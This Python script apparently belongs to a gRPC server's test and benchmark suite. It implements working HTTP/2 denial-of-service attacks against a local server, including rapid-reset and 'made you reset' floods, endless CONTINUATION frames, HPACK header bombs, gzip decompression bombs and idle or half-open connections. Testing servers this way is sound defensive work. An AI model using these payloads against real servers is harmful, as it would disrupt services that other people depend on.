#!/usr/bin/python3
"""What peers that mean no good send to a gRPC server, for the tests and for the benchmark beside a bystander.

    attacks.py NAME PORT [TLS_PORT CA]     # one attack, over and over until it is killed
    attacks.py                             # their names
"""

import contextlib
import gzip
import itertools
import random
import socket
import ssl
import sys
import time

import h2_peer as h2

SERVICE = b"/nd.test.v1.EchoService/"


def streams():
    """Identifiers of a client's streams."""
    return itertools.count(1, 2)


def batches(make, size=200, most=2000):
    """Pieces of `size` times what `make(stream)` gives, for `pour`; an end so that no test hangs."""
    ids = streams()
    for _ in range(most):
        yield b"".join(make(next(ids)) for _ in range(size))


def increment(stream, by):
    return h2.frame(h2.WINDOW_UPDATE, 0, stream, by.to_bytes(4, "big"))


# Each is what comes on a stream of its own, over and over, and must end the connection.
STREAM_FLOODS = {
    "rapid reset": lambda s: h2.request(s, SERVICE + b"Bidi") + h2.frame(
        h2.RST_STREAM, 0, s, h2.CANCEL.to_bytes(4, "big")),
    "rapid reset of unknown methods": lambda s: h2.request(s, b"/no/such") + h2.frame(
        h2.RST_STREAM, 0, s, h2.CANCEL.to_bytes(4, "big")),
    "made you reset: window of zero": lambda s: h2.request(s, SERVICE + b"Bidi") + increment(s, 0),
    "made you reset: window too large": lambda s: h2.request(s, SERVICE + b"Bidi") + increment(
        s, 0x7FFFFFFF),
    "made you reset: data after the end": lambda s: h2.request(
        s, SERVICE + b"Bidi", h2.END_HEADERS | h2.END_STREAM) + h2.frame(h2.DATA, 0, s, b"late"),
    "made you reset: headers after the end": lambda s: h2.request(
        s, SERVICE + b"Bidi", h2.END_HEADERS | h2.END_STREAM) + h2.request(s, b"/again"),
    "made you reset: malformed headers": lambda s: h2.frame(
        h2.HEADERS, h2.END_HEADERS, s, h2.block(b"/x", [(b"connection", b"close")])),
}

# The same on the connection, after a stream was opened.
CONNECTION_FLOODS = {
    "settings": h2.frame(h2.SETTINGS),
    "settings with content": h2.frame(h2.SETTINGS, 0, 0, b"\0\x03\0\0\0\x64" * 30),
    "ping": h2.frame(h2.PING, 0, 0, b"12345678"),
    "empty data": h2.frame(h2.DATA, 0, 1),
    "padding instead of data": h2.frame(h2.DATA, 0x8, 1, b"\0"),
    "window update": increment(0, 1),
    "window update of a stream": increment(1, 1),
    "priority": h2.frame(h2.PRIORITY, 0, 3, b"\0\0\0\0\1"),
    "unknown frames": h2.frame(0x77, 0, 0, b""),
}


HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)  # of a TLS handshake

GARBAGE = {
    "zeros": bytes(100000),
    "http/1": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "tls": HALF_HELLO + bytes(400),
    "half a preface and more": h2.PREFACE[:12] + b"x" * 1000,
    "a frame first": h2.frame(h2.SETTINGS) * 10,
    "random": random.Random(1).randbytes(100000),
    "a preface and random": h2.PREFACE + random.Random(2).randbytes(100000),
}

# One field of 4000 bytes in the table of HPACK, named over and over by single bytes.
HEADERS_BOMB = (h2.block(SERVICE + b"Unary") + b"\x40" + h2.number(7, 1) + b"x" + h2.number(7, 3900) + b"y" * 3900 +
                b"\xbe" * 12000)

LARGEST_WINDOW = b"\0\x04\x7f\xff\xff\xff"  # SETTINGS_INITIAL_WINDOW_SIZE
ENDLESS = h2.message(b"\x18" + h2.varint(100000) + b"\x20" + h2.varint(1 << 30))  # replies of 100 kB
UPLOAD_BYTES = (4 << 20) - 100


# --- the same as one round each, without a judge ---

HOLD_SECONDS = 0.5


def flood_streams(name, plain):
    with h2.Peer(plain).hello() as peer:
        peer.pour(batches(STREAM_FLOODS[name]))


def flood_connection(name, plain):
    with h2.Peer(plain).hello() as peer:
        peer.send(h2.request(1, SERVICE + b"Bidi"))
        peer.pour(itertools.repeat(CONNECTION_FLOODS[name] * 1000, 3000))


def send_garbage(name, plain):
    with h2.Peer(plain) as peer:
        peer.pour([GARBAGE[name]])


def begin_and_stop(plain):
    with contextlib.ExitStack() as stack:
        for words in BEGINNINGS * 20:
            stack.enter_context(h2.Peer(plain)).send(words)
        time.sleep(HOLD_SECONDS)


def half_open(secure):
    with contextlib.ExitStack() as stack:
        for number in range(200):
            half = stack.enter_context(socket.create_connection(secure, h2.SECONDS))
            half.sendall(HALF_HELLO[:number % len(HALF_HELLO)])
        time.sleep(HOLD_SECONDS)


def shake_hands(secure, tls):
    with h2.Peer(secure, tls).hello() as peer:
        peer.ping()


def sit_idle(plain):
    with contextlib.ExitStack() as stack:
        for _ in range(500):
            stack.enter_context(h2.Peer(plain)).hello()
        time.sleep(HOLD_SECONDS)


def continue_for_ever(plain):
    with h2.Peer(plain).hello() as peer:
        peer.send(h2.frame(h2.HEADERS, 0, 1, h2.block(SERVICE + b"Bidi")))
        peer.pour(itertools.repeat(h2.frame(h2.CONTINUATION, 0, 1, b"\x10\x01x\x01y" * 3000) * 100, 100))


def send_bombs(plain):
    with h2.Peer(plain).hello() as peer:
        for stream in itertools.islice(streams(), 50):
            peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, HEADERS_BOMB))


def never_read(plain):
    with h2.Peer(plain).hello(LARGEST_WINDOW) as peer:
        peer.send(increment(0, 0x7FFF0000))
        for stream in itertools.islice(streams(), 50):
            peer.send(h2.request(stream, SERVICE + b"ServerStream") + h2.frame(h2.DATA, h2.END_STREAM, stream, ENDLESS))
        time.sleep(HOLD_SECONDS)


def never_end(plain):
    body = h2.message(b"\x12" + h2.varint(16000) + bytes(16000))
    piece = h2.frame(h2.DATA, 0, 1, body)
    with h2.Peer(plain).hello() as peer:
        peer.send(h2.request(1, SERVICE + b"ClientStream"))
        for _ in range(1000):
            if not peer.read_until(lambda p: p.credit(1) >= len(body)):
                return
            peer.spend(1, len(body))
            peer.send(piece)


def upload_most(plain):
    """Requests of almost 4 MiB, each without its last byte, as far as the server takes them."""
    pieces = [b"\0" + UPLOAD_BYTES.to_bytes(4, "big") + bytes(16000)] + [bytes(16000)] * (UPLOAD_BYTES // 16000 - 1)
    with h2.Peer(plain).hello() as peer:
        for stream in itertools.islice(streams(), 30):
            peer.send(h2.request(stream, SERVICE + b"Unary"))
            for piece in pieces:
                peer.read_until(lambda p, s=stream: s in p.ended or p.credit(s) >= 16384)
                if stream in peer.ended or peer.closed:
                    break
                peer.spend(stream, len(piece))
                peer.send(h2.frame(h2.DATA, 0, stream, piece))


def ask_for_everything(plain):
    """Answers of megabytes to questions of some bytes, on as many streams as there may be, and none is read."""
    question = h2.message(b"\x18" + h2.varint(3 << 20))
    with h2.Peer(plain).hello() as peer:
        for stream in itertools.islice(streams(), 200):
            peer.send(h2.request(stream, SERVICE + b"Unary") + h2.frame(h2.DATA, h2.END_STREAM, stream, question))
        time.sleep(HOLD_SECONDS)


def unpack_much(plain):
    """Four kilobytes that become four megabytes, and these more than a million fields that nobody knows."""
    unknown = gzip.compress(b"\xa0\x06\x01" * ((4 << 20) // 3 - 10))
    message = b"\1" + len(unknown).to_bytes(4, "big") + unknown
    with h2.Peer(plain).hello() as peer:
        for stream in itertools.islice(streams(), 20):
            headers = h2.block(SERVICE + b"Unary", [(b"grpc-encoding", b"gzip")])
            peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers) +
                      h2.frame(h2.DATA, h2.END_STREAM, stream, message))
        peer.read_until(lambda p: len(p.ended) == 20)


def any_path(plain):
    chance = random.Random(3)
    with h2.Peer(plain).hello() as peer:
        for stream in itertools.islice(streams(), 200):
            path = chance.randbytes(chance.randrange(0, 400))
            peer.send(h2.request(stream, path, h2.END_HEADERS | h2.END_STREAM))
            peer.read_until(lambda p, s=stream: s in p.ended)


BEGINNINGS = [
    b"", h2.PREFACE[:10], h2.PREFACE,
    h2.PREFACE + h2.frame(h2.SETTINGS) + h2.request(1, SERVICE + b"Unary", 0),
    h2.PREFACE + h2.frame(h2.SETTINGS) + h2.request(1, SERVICE + b"Unary")[:30],
]

# Each takes the address without TLS, or the one with it.
ATTACKS = {
    **{name: lambda plain, name=name: flood_streams(name, plain) for name in STREAM_FLOODS},
    **{name: lambda plain, name=name: flood_connection(name, plain) for name in CONNECTION_FLOODS},
    **{f"garbage: {name}": lambda plain, name=name: send_garbage(name, plain) for name in GARBAGE},
    "slow beginnings": begin_and_stop,
    "idle connections": sit_idle,
    "headers without end": continue_for_ever,
    "headers bomb": send_bombs,
    "a reader that never reads": never_read,
    "a writer that never ends": never_end,
    "incomplete uploads": upload_most,
    "answers that nobody reads": ask_for_everything,
    "messages that grow": unpack_much,
    "any path": any_path,
}
TLS_ATTACKS = {
    "half-open TLS": lambda secure, tls: half_open(secure),
    "TLS handshakes": shake_hands,
}


def main():
    if len(sys.argv) == 1:
        print("\n".join([*ATTACKS, *TLS_ATTACKS]))
        return
    name, plain = sys.argv[1], ("127.0.0.1", int(sys.argv[2]))
    if name in TLS_ATTACKS:
        tls = ssl.create_default_context(cafile=sys.argv[4])
        tls.set_alpn_protocols(["h2"])
    while True:
        try:
            if name in TLS_ATTACKS:
                TLS_ATTACKS[name](("127.0.0.1", int(sys.argv[3])), tls)
            else:
                ATTACKS[name](plain)
        except OSError:
            pass  # the server has closed: once more


if __name__ == "__main__":
    main()
